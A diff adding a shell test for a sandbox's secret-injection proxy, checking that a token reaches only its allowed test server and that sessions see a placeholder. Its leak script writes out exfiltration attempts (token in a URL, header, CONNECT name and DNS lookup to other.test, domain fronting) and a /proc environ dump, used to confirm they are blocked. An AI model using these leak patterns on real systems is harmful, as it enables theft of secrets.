@@ -1,0 +1,221 @@
+# Secrets held by the proxy (docs/network.md, "Secrets"): the test's own
+# resolver and HTTPS server (a test CA; it prints the Authorization header
+# it receives) in a network namespace of its own, reached over a veth pair;
+# embedded sessions with --secret. The server must see the real value, the
+# session only the placeholder; the placeholder sent anywhere else is
+# refused and recorded with the secret's name, never its value.
+. "$(dirname "$0")/../lib.sh"
+
+need_root_cgroup2 secrets "network namespaces and the BPF redirect"
+for t in curl openssl ip; do
+	if ! command -v $t >/dev/null; then
+		fail "secrets: $t is missing (make deps installs it)"
+		finish
+		exit $?
+	fi
+done
+
+NS=bbx-sec-$$
+HOSTIF=bbs$$h
+SRV=203.0.113.2
+daemon_scratch secrets-test
+chmod 755 "$TMPD"
+
+cleanup_extra() {
+	for p in $(ip netns pids "$NS" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
+	ip netns del "$NS" 2>/dev/null
+	ip link del "$HOSTIF" 2>/dev/null
+}
+
+if ! ip netns add "$NS" || ! ip link add "$HOSTIF" type veth peer name bbs$$n ||
+	! ip link set bbs$$n netns "$NS" || ! ip addr add 203.0.113.1/24 dev "$HOSTIF" ||
+	! ip link set "$HOSTIF" up || ! ip -n "$NS" addr add $SRV/24 dev bbs$$n ||
+	! ip -n "$NS" link set bbs$$n up || ! ip -n "$NS" link set lo up; then
+	fail "secrets: cannot make the test's network namespace $NS"
+	finish
+	exit $?
+fi
+
+# The upstream's CA: bpfbox verifies the server with it (BPFBOX_UPSTREAM_CA);
+# the session never sees it (it trusts the session CA only for api.test).
+cd "$TMPD" || exit 1
+openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out up-ca.crt -days 1 \
+	-subj /CN=bpfbox-test-upstream-ca 2>/dev/null &&
+	openssl req -newkey rsa:2048 -nodes -keyout srv.key -out srv.csr -subj /CN=api.test \
+		2>/dev/null &&
+	printf 'subjectAltName=DNS:api.test,DNS:other.test\n' >ext &&
+	openssl x509 -req -in srv.csr -CA up-ca.crt -CAkey ca.key -CAcreateserial -out srv.pem \
+		-days 1 -extfile ext 2>/dev/null || fail "secrets: cannot make the test CA"
+ip netns exec "$NS" "$PY" "$ROOT/tests/helpers/netsrv.py" $SRV 80 443 7000 srv.pem srv.key \
+	"$TMPD/ready" api.test=$SRV other.test=$SRV >"$TMPD/srv.log" 2>&1 &
+wait_file "$TMPD/ready" 10
+if [ ! -s "$TMPD/ready" ]; then
+	fail "secrets: the test servers did not start: $(head -c 300 "$TMPD/srv.log")"
+	finish
+	exit $?
+fi
+cd "$WS" || exit 1
+
+TOKEN="tok-$$-the-real-value"
+export TOKEN
+RULES="--net-allow api.test:443 --net-allow other.test:443 --net-allow other.test:80"
+# box AUDIT ARGS... -- CMD: one embedded session against the test resolver.
+box() {
+	audit=$1
+	shift
+	_b0=$(date +%s%N)
+	BPFBOX_UPSTREAM_CA="${UPCA:-$TMPD/up-ca.crt}" "$BPFBOX" run --no-daemon --audit "$audit" -w "$WS" \
+		--net-resolver $SRV --timeout 60 $RULES "$@"
+	_brc=$?
+	echo "# box $(basename "$audit"): $((($(date +%s%N) - _b0) / 1000000)) ms" >&3
+	return $_brc
+}
+exec 3>&1
+# never_value FILE WHAT: the real value is nowhere in FILE.
+never_value() {
+	if grep -qF "$TOKEN" "$1"; then
+		fail "secrets: the real value is in $2"
+	else
+		ok "secrets: the real value is not in $2"
+	fi
+}
+
+t0=$(date +%s%N)
+# 1. curl through HTTPS_PROXY (CONNECT) and without it (the SNI), python
+#    urllib (SSL_CERT_FILE); then every environ of the session.
+cat >"$WS/inside.sh" <<'EOF'
+curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" https://api.test/one
+env -u HTTPS_PROXY -u https_proxy curl -sS --max-time 10 -H "X-Key: $TOKEN" \
+	-H "Authorization: token $TOKEN" https://api.test/two
+python3 -c 'import os, urllib.request as u
+r = u.Request("https://api.test/three", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
+print(u.urlopen(r, timeout=10).read().decode().strip(), "(python)")'
+command -v node >/dev/null && node -e 'require("https").get("https://api.test/four",
+	{headers: {authorization: "Bearer " + process.env.TOKEN}},
+	(r) => r.on("data", (d) => process.stdout.write(d.toString().trim() + " (node)\n")))'
+sleep 30 &
+for f in /proc/[0-9]*/environ; do tr '\0' '\n' <"$f"; done >"$PWD/environs"
+kill $!
+EOF
+A="$TMPD/a.jsonl"
+box "$A" --secret TOKEN@api.test -- sh inside.sh >"$TMPD/out" 2>"$TMPD/err"
+expect_grep 'hello from api.test' "$TMPD/out" "secrets: curl reaches the secret's host through the terminating proxy"
+expect_grep "auth api.test Bearer $TOKEN" "$TMPD/srv.log" "secrets: the server received the real value in Authorization (curl, CONNECT)"
+expect_grep "auth api.test token $TOKEN" "$TMPD/srv.log" "secrets: the server received the real value without HTTP_PROXY (SNI)"
+expect_grep 'hello from api.test \(python\)' "$TMPD/out" "secrets: python urllib trusts the session CA (SSL_CERT_FILE)"
+if command -v node >/dev/null; then
+	expect_grep 'hello from api.test \(node\)' "$TMPD/out" "secrets: node https trusts the session CA (NODE_EXTRA_CA_CERTS)"
+else
+	skip "secrets: node is missing (make deps installs it)"
+fi
+n=$(grep -c "^TOKEN=bpfbox-secret-TOKEN-[0-9a-f]\{32\}$" "$WS/environs")
+if [ "${n:-0}" -ge 2 ]; then
+	ok "secrets: $n environs of the session hold the placeholder"
+else
+	fail "secrets: the placeholder is in $n environs: $(grep TOKEN "$WS/environs" | head -3)"
+fi
+never_value "$WS/environs" "any /proc/PID/environ of the session"
+never_value "$A" "the audit stream"
+never_value "$TMPD/err" "bpfbox's messages"
+check_events "$A" "sum(1 for e in net if e['type'] == 'net.allow' and e['name'] == 'api.test' and e['port'] == 443 and 'secrets injected: TOKEN' in e['reason'] and e['bytes_in'] > 0) >= 3" \
+	"secrets: each terminated connection is a net.allow naming the secret injected"
+grep -h SSL_CERT_FILE= "$WS/environs" | head -1 >"$TMPD/certvar"
+expect_grep '\.bpfbox-ca-bundle\.crt$' "$TMPD/certvar" "secrets: SSL_CERT_FILE is the session's bundle"
+
+# 2. The placeholder elsewhere: plain HTTP to another allowed host, a
+#    CONNECT name, a DNS name. Each refused, each a net.deny naming TOKEN.
+cat >"$WS/leak.sh" <<'EOF'
+curl -sS --max-time 10 "http://other.test/?k=$TOKEN"; echo "proxied rc=$?"
+env -u HTTP_PROXY -u http_proxy curl -sS --max-time 10 -H "X-K: $TOKEN" http://other.test/
+curl -sS --max-time 10 "https://$TOKEN.other.test/"; echo "connect rc=$?"
+env -u HTTPS_PROXY -u https_proxy getent hosts "x.$TOKEN.other.test"; echo "dns rc=$?"
+curl -sS --max-time 10 https://other.test/ --cacert /dev/null -k -o /dev/null -w 'control %{http_code}\n'
+curl -sS --max-time 10 -H 'Host: other.test' https://api.test/; echo "fronted rc=$?"
+curl -sS --max-time 10 --cacert /etc/ssl/certs/ca-certificates.crt https://api.test/; echo "pinned rc=$?"
+EOF
+B="$TMPD/b.jsonl"
+box "$B" --secret TOKEN@api.test -- sh leak.sh >"$TMPD/out" 2>"$TMPD/err"
+expect_grep 'control 200' "$TMPD/out" "secrets: another allowed host is reached (control)"
+if grep -q 'hello from other.test' "$TMPD/out" || grep -q 'auth other.test' "$TMPD/srv.log"; then
+	fail "secrets: the placeholder reached other.test"
+else
+	ok "secrets: no request with the placeholder reached other.test"
+fi
+for how in "a proxy request" "a plain HTTP request" "the name"; do
+	check_events "$B" "any(e['type'] == 'net.deny' and 'placeholder of secret TOKEN' in e['reason'] and '$how' in e['reason'] for e in net)" \
+		"secrets: the placeholder in $how is a net.deny naming the secret"
+done
+check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'dns' and 'secret TOKEN' in e['reason'] for e in net)" \
+	"secrets: the placeholder in a DNS name is refused by the resolver"
+check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'proxy' and 'secret TOKEN' in e['reason'] for e in net)" \
+	"secrets: the placeholder in a CONNECT name is refused by the proxy"
+expect_grep 'denied \(a request for another host on this connection\)' "$TMPD/out" \
+	"secrets: a terminated connection refuses a request for another host (403)"
+if grep -q '^pinned rc=0' "$TMPD/out"; then
+	fail "secrets: a client that trusts only the system bundle reached the secret's host"
+else
+	ok "secrets: a client that trusts only the system bundle fails closed"
+fi
+check_events "$B" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and 'refused the session CA' in e['reason'] for e in net)" \
+	"secrets: the refused session CA is a net.deny"
+never_value "$B" "the leak session's audit stream"
+
+# 3. Through a daemon: it holds the value and the CA; the client writes
+#    the bundle. Its stream and its messages never hold the value.
+K="$TMPD/k.jsonl"
+export BPFBOX_UPSTREAM_CA="$TMPD/up-ca.crt"
+if start_daemon "$K" --group nogroup; then
+	unset BPFBOX_UPSTREAM_CA
+	"$BPFBOX" run --daemon-socket "$SOCK" -w "$WS" --net-resolver $SRV --timeout 60 $RULES \
+		--secret TOKEN@api.test -- sh -c 'curl -sS --max-time 10 -H "Authorization: daemon $TOKEN" \
+		https://api.test/; echo; env | grep ^TOKEN=' >"$TMPD/out" 2>"$TMPD/err"
+	expect_grep "auth api.test daemon $TOKEN" "$TMPD/srv.log" "secrets: through a daemon, the server received the real value"
+	expect_grep '^TOKEN=bpfbox-secret-TOKEN-[0-9a-f]{32}$' "$TMPD/out" "secrets: through a daemon, the session holds the placeholder"
+	check_events "$K" "any(e['type'] == 'net.allow' and e['name'] == 'api.test' and 'secrets injected: TOKEN' in e['reason'] for e in net)" \
+		"secrets: the daemon's stream has the terminated connection"
+	never_value "$TMPD/out" "the daemon session's output"
+	never_value "$K" "the daemon's stream"
+	never_value "$DERR" "the daemon's messages"
+else
+	unset BPFBOX_UPSTREAM_CA
+	fail "secrets: the daemon did not start: $(tail -c 300 "$DERR")"
+fi
+
+expect_schema "secrets: the streams validate against the schema" "$A" "$B" "$K"
+
+# 4. Bad input: one line, exit 125, nothing ran.
+printf 'file-value\n' >"$TMPD/k"
+# A secret named like a variable the environment passes (env_pass.h): the
+# placeholder, never the caller's value.
+# bpfbox verifies the server with another CA: the request never leaves.
+openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMPD/other.key" -out "$TMPD/other-ca.crt" \
+	-days 1 -subj /CN=another-ca 2>/dev/null
+UPCA="$TMPD/other-ca.crt" PIP_INDEX_URL="https://x.test/$TOKEN/simple" box "$TMPD/c.jsonl" \
+	--secret PIP_INDEX_URL@api.test --secret 'K=file:'"$TMPD"'/k@api.test' -- \
+	sh -c 'echo "$K"; env | grep ^PIP_INDEX_URL=; curl -sS --max-time 10 -H "X-K: $K" https://api.test/k' \
+	>"$TMPD/out" 2>"$TMPD/err"
+expect_grep '^bpfbox-secret-K-[0-9a-f]{32}$' "$TMPD/out" "secrets: NAME=file:PATH gives the session a placeholder"
+expect_grep '^PIP_INDEX_URL=bpfbox-secret-PIP_INDEX_URL-[0-9a-f]{32}$' "$TMPD/out" \
+	"secrets: a passed variable given as a secret is its placeholder"
+never_value "$TMPD/out" "a file secret's session"
+check_events "$TMPD/c.jsonl" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and e['reason'].startswith('upstream TLS') for e in net)" \
+	"secrets: a server that fails verification is a net.deny"
+if grep -q 'auth api.test.*file-value' "$TMPD/srv.log" || grep -q 'hello from api.test' "$TMPD/out"; then
+	fail "secrets: a request went to a server that failed verification"
+else
+	ok "secrets: nothing reaches a server that fails verification"
+fi
+if grep -q file-value "$TMPD/out"; then
+	fail "secrets: a file secret's value reached the session"
+else
+	ok "secrets: a file secret's value is not in the session"
+fi
+unset NOPE
+expect_err 125 "secrets: an unset variable is refused" 'the variable NOPE is not set' \
+	box "$TMPD/d.jsonl" --secret NOPE@api.test -- true
+expect_err 125 "secrets: a host outside --net-allow is refused" 'not allowed on port 443' \
+	box "$TMPD/d.jsonl" --secret TOKEN@elsewhere.test -- true
+expect_err 125 "secrets: an unreadable file is refused" 'cannot read /nonexistent' \
+	box "$TMPD/d.jsonl" --secret 'K=file:/nonexistent@api.test' -- true
+echo "# test_secrets: $((($(date +%s%N) - t0) / 1000000)) ms of sessions"
+finish
